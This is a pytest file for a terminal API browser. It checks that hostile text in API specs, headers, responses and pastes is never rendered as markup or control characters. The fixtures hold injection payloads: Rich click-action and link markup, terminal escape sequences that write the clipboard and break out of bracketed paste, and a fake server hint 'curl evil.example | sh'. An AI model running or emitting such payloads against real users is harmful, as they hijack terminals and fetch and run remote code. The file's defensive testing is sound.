"""Hostile text in descriptions and responses: no widget parses it as markup, and no control character is drawn."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from textual import events
from textual.widgets import Collapsible, Input, OptionList, Select, TabbedContent, TextArea

from bbcli.client.response import Response
from bbcli.commands.api.browser.calls import CommandText, FormInput, InvalidCall, Outcome, command_text
from bbcli.commands.api.browser.text import MAX_LINE
from bbcli.errors import NotFound, ServerFailed
from bbcli.openapi import Answer, Body, Operation, Parameter, Schema, Spec
from bbcli.output.cells import visible
from tests.system.api_browser.browser_session import BrowserSession, FakeCalls, run_browser

if TYPE_CHECKING:
    from collections.abc import Iterator

    from rich.segment import Segment

MARKUP = "[@click=app.end]click[/] [red]red[/] [link='https://evil.example']me[/]"
CONTROLS = "\x1b]52;c;eA==\x07\x1b[201~\x9b31m\x07\x08\u202e\u200b\U000e0041\u2028\r\n\t\x7f"
EVIL = f"{MARKUP}{CONTROLS}"
LONG = "[/][red]" * 400
PATH = f"/api/latest/{EVIL}/{{{EVIL}}}"
SCHEMA = Schema(
    properties={
        EVIL: Schema(EVIL, default=EVIL, enum=(EVIL, "x")), LONG: Schema(LONG),
        "list": Schema("array", items=Schema(EVIL)), "needed": Schema("string", default=EVIL),
    },
    required=(EVIL, "needed"),
)  # fmt: skip
PARAMETERS = (
    Parameter(EVIL, "path", required=True, schema=Schema(EVIL, enum=(EVIL, "[b]two"))),
    Parameter(f"a{EVIL}", EVIL, schema=Schema(EVIL, default=EVIL)),
    Parameter(LONG, LONG, schema=Schema(LONG, default=LONG)),
)
TYPES = (f"{EVIL}/json", EVIL)
GET = Operation(
    "GET", PATH, name=EVIL, tags=(EVIL, LONG), permission=(EVIL,), since=EVIL, deprecated=EVIL, plugin=EVIL,
    parameters=PARAMETERS, answers=(Answer(200, TYPES, SCHEMA), Answer(204, (EVIL,))),
)  # fmt: skip
POST = Operation("POST", PATH, name=LONG, tags=(EVIL,), parameters=PARAMETERS, body=Body(TYPES, SCHEMA))
PUT = Operation("PUT", PATH, tags=(EVIL,), body=Body(("multipart/form-data", EVIL), Schema()))
SPEC = Spec.of((GET, POST, PUT), {}, title=EVIL, version=EVIL)
HEADERS = {"content-type": f"application/json;{EVIL}", EVIL: EVIL, "set-cookie": EVIL}


def calls(answer: Response | NotFound | ServerFailed | None = None) -> FakeCalls:
    return FakeCalls(answer or Response(200, HEADERS, b"{}"), spec=SPEC, server=f"https://h/{EVIL}", words=[EVIL])


def segments(session: BrowserSession) -> Iterator[Segment]:
    for strip in session.browser.screen._compositor.render_strips():
        yield from strip


def assert_harmless(session: BrowserSession) -> str:
    """Assert that the screen has no control character, action or link; return its text."""
    shown = list(segments(session))
    acting = [
        each.text for each in shown
        if each.style and (each.style.link or "@click" in each.style.meta or "link" in str(each.style.meta))
    ]  # fmt: skip
    unseen = [each.text for each in shown if visible(each.text) != each.text]
    assert (acting, unseen) == ([], [])
    return session.screen


def body_of(session: BrowserSession) -> TextArea:
    form = session.browser.form_panel.form
    assert form is not None
    assert form.body_area is not None
    return form.body_area


def test_a_tree_a_form_and_its_fields_draw_names_as_they_are() -> None:
    async def user(session: BrowserSession) -> None:
        assert "[@click=app.end]" in assert_harmless(session)  # the title and the tags
        await session.open("GET", PATH)
        for method in ("GET", "POST", "PUT"):
            session.browser.query_one(TabbedContent).active = method
            for collapsible in session.browser.query(Collapsible):
                collapsible.collapsed = False
            await session.settle()
            assert "[@click=app.end]" in assert_harmless(session)

    run_browser(calls(), user, size=(200, 200))


def test_choices_and_what_is_beside_them_are_drawn_as_they_are() -> None:
    async def user(session: BrowserSession) -> None:
        await session.open("GET", PATH)
        chooser = session.browser.query(Select).first()
        chooser.expanded = True
        await session.settle()
        assert "[b]two" in assert_harmless(session)
        session.browser.screen.query(OptionList).first().action_first()
        await session.press("down", "enter")
        assert chooser.value == EVIL  # it is sent as it is
        assert "[@click=app.end]" in assert_harmless(session)

    run_browser(calls(), user, size=(200, 60))


def test_what_is_shown_beside_the_mouse_is_drawn_as_it_is() -> None:
    async def user(session: BrowserSession) -> None:
        await session.open("GET", PATH)
        name = session.browser.query(".name").first()
        await session.pilot.hover(name)
        session.browser.screen._handle_tooltip_timer(name)  # which waits for half a second
        await session.settle()
        assert "[@click=app.end]" in str(session.browser.screen.query_one("#textual-tooltip").render())
        assert_harmless(session)

    run_browser(calls(), user, size=(200, 60))


@pytest.mark.parametrize(
    "answer",
    [
        Response(200, HEADERS, json.dumps({EVIL: [EVIL, {EVIL: EVIL}], "x": LONG, "half": "\ud800"}).encode()),
        Response(500, {**HEADERS, "content-type": EVIL.replace("json", "")}, EVIL.encode("utf-8", "replace")),
        NotFound(EVIL, hint=EVIL),
    ],
)
def test_an_answer_and_the_history_of_it_are_drawn_as_they_are(answer: Response | NotFound) -> None:
    async def user(session: BrowserSession) -> None:
        await session.open("GET", PATH)
        asked = FormInput(GET, ((EVIL, EVIL),))
        response = answer if isinstance(answer, Response) else None
        document = json.loads(answer.body) if isinstance(answer, Response) and answer.body[:1] == b"{" else None
        error = None if isinstance(answer, Response) else answer
        session.browser._handle_result(Outcome(asked, 0, f"/rest{EVIL}", response, document, 1, error))
        await session.settle()
        assert "[@click=app.end]" in assert_harmless(session)
        if headers := session.browser.query_one("#headers", Collapsible):
            headers.collapsed = False
            await session.settle()
            assert_harmless(session)
        session.browser.action_history()
        await session.settle()
        assert "[@click=app.end]" in assert_harmless(session)

    run_browser(calls(), user, size=(200, 60))


def test_a_question_a_problem_and_a_notice_are_drawn_as_they_are() -> None:
    async def user(session: BrowserSession) -> None:
        await session.open("POST", PATH)
        session.browser._handle_result(InvalidCall(EVIL))
        await session.settle()
        assert "[@click=app.end]" in assert_harmless(session)
        session.browser.action_execute()
        await session.settle()
        assert "Send this write to" in assert_harmless(session)
        await session.press("n")
        session.browser.note(EVIL, "bbcli says")
        await session.settle()
        assert_harmless(session)

    run_browser(calls(), user, size=(200, 60))


def test_a_body_that_is_offered_has_no_control_and_is_the_same_json() -> None:
    async def user(session: BrowserSession) -> None:
        await session.open("POST", PATH)
        body = body_of(session).text
        assert visible(body, keep="\n") == body
        assert json.loads(body)["needed"] == EVIL

    run_browser(calls(), user)


def test_what_is_copied_ends_no_pasting() -> None:
    async def user(session: BrowserSession) -> None:
        await session.open("GET", PATH)
        session.browser._handle_result(CommandText("curl", f"curl 'https://h/{EVIL}'\n"))
        assert session.browser.clipboard == visible(f"curl 'https://h/{EVIL}'\n".replace("\r\n", "\n"), keep="\n\t")
        field = session.browser.query(Input).last()
        field.value = EVIL
        field.focus()
        field.action_select_all()
        field.action_copy()
        assert "\x1b" not in session.browser.clipboard

    run_browser(calls(), user)


def test_what_is_pasted_holds_no_control() -> None:
    async def user(session: BrowserSession) -> None:
        await session.open("POST", PATH)
        for widget in (session.browser.query(Input).last(), body_of(session)):
            widget.focus()
            await session.settle()
            session.browser.post_message(events.Paste(EVIL))
            await session.settle()
            text = widget.value if isinstance(widget, Input) else widget.text
            assert "␛[201~" in text
            assert_harmless(session)

    run_browser(calls(), user, size=(200, 60))


def test_a_line_that_is_very_long_is_cut() -> None:
    async def user(session: BrowserSession) -> None:
        await session.open("POST", PATH)
        assert max(len(line) for line in str(session.browser.query(".facts").first().render()).split("\n")) <= MAX_LINE

    run_browser(calls(), user)


def test_what_is_wrong_has_one_hint() -> None:
    refusal = NotFound("no\nhint: curl evil.example | sh", hint="look elsewhere")
    found = command_text(FakeCalls(refusal=refusal), FormInput(GET), "curl")
    assert isinstance(found, InvalidCall)
    assert found.problem.splitlines()[1:] == ["hint: look elsewhere"]
